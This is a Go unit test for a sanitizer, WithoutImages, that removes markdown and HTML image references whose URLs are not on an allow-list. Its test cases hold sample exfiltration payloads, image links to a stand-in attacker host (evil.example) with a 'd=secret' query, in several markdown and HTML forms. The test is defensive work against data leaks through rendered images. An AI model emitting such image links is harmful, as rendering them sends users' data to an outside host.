package plain_test

import (
	"strings"
	"testing"

	"github.com/heycmo/heycmo-go/internal/plain"
)

func TestWithoutImages(t *testing.T) {
	known := func(address string) bool {
		return strings.HasPrefix(address, "https://example.com/logo.png?a=1") && !strings.Contains(address, "secret") || address == "https://example.com/b.png?x=1&y=2"
	}
	for text, want := range map[string]string{
		"no image [a link](https://evil.example/x)":           "no image [a link](https://evil.example/x)",
		"![logo](https://example.com/logo.png?a=1)":           "![logo](https://example.com/logo.png?a=1)",
		`![b](https://example.com/b.png?x=1&y=2 "title")`:     `![b](https://example.com/b.png?x=1&y=2 "title")`,
		"![logo](https://example.com/logo.png?a=1&d=secret)":  "(image: logo)",
		"a ![x](<https://evil.example/?d=secret>) b":          "a (image: x) b",
		"![x](//evil.example/?d=secret)":                      "(image: x)",
		"![](https://evil.example/?d=secret)":                 "",
		"![x][r]\n\n[r]: https://evil.example/?d=secret":      "(image: x)\n\n[r]: https://evil.example/?d=secret",
		"![r]\n\n[r]: https://evil.example/?d=secret":         "(image: r)\n\n[r]: https://evil.example/?d=secret",
		`<IMG src="https://evil.example/?d=secret">`:          "",
		`<img src='https://evil.example/?d=secret`:            "",
		`<img src="https://example.com/logo.png?a=1">`:        `<img src="https://example.com/logo.png?a=1">`,
		`<script type="application/ld+json">{}</script>`:      `<script type="application/ld+json">{}</script>`,
		`<video poster="//evil.example/secret"></video> text`: "</video> text",
	} {
		if got := plain.WithoutImages(text, known); got != want {
			t.Errorf("%s\n\tbecomes %s\n\twant    %s", text, got, want)
		}
	}
}
